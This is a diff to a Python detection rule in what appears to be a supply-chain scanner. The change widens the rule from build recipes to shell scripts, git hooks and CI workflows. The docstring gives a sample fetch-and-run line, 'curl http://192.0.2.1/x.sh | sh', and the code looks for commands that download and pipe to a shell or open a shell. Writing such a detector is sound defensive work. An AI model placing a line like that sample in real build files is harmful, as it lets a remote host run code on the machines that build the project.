@@ -1,9 +1,9 @@
 """A recipe for building or installing fetches a program and runs it at once.
 
 ## Why it matters
-A `Dockerfile`, a `Makefile` or the scripts of `package.json` run when somebody builds or installs what came with the
-model. What they fetch and hand to a shell is decided by whoever answers at that moment, and without HTTPS by anybody in
-between.
+A `Dockerfile`, a `Makefile`, the scripts of `package.json`, a hook of git, the jobs of a workflow and shell scripts run
+when somebody builds, installs or checks out what came with the model. What they fetch and hand to a shell is decided by
+whoever answers at that moment, and without HTTPS by anybody in between.
 
 ## Example
 `RUN curl http://192.0.2.1/x.sh | sh`.
@@ -28,16 +28,24 @@ from assay.scan.rule import Hit, Rule
 from assay.scan.surroundings.shell import fetches_and_runs, fetches_unprotected, opens_shell
 
 _RECIPES: Final = re.compile(
-    r"(?:.*[._-])?(?:dockerfile|containerfile|makefile|gnumakefile|justfile)(?:[._-].*)?|.*\.mk|package\.json",
+    r"(?:.*[._-])?(?:dockerfile|containerfile|makefile|gnumakefile|justfile)(?:[._-].*)?|.*\.mk|package\.json|.*\.(?:ba|z)?sh"
+    # Hooks of git, by the names under which it runs them.
+    r"|(?:pre|post)-(?:commit|checkout|merge|push|rebase|applypatch|receive|update|rewrite)|prepare-commit-msg|commit-msg",
     re.IGNORECASE,
 )
 
 
+#: What a workflow has that a host runs on its own machines.
+_WORKFLOW: Final = re.compile(r"^jobs:\s*$", re.MULTILINE)
+
+
 def check(view: Text) -> Iterator[Hit]:
-    """Lines of files that go by a recipe's name."""
-    if not _RECIPES.fullmatch(view.name.rpartition("/")[2]):
+    """Lines of files that go by a recipe's name, or are a workflow."""
+    name = view.name.rpartition("/")[2]
+    workflow = name.endswith((".yml", ".yaml")) and _WORKFLOW.search(view.text[: 1 << 20])
+    if not _RECIPES.fullmatch(name) and not workflow:
         return
-    for number, line in enumerate(view.text[: 1 << 20].splitlines(), 1):
+    for number, line in enumerate(view.text[: 1 << 20].splitlines(), view.first_line):
         if line.lstrip().startswith("#"):
             continue
         if opens_shell(line):
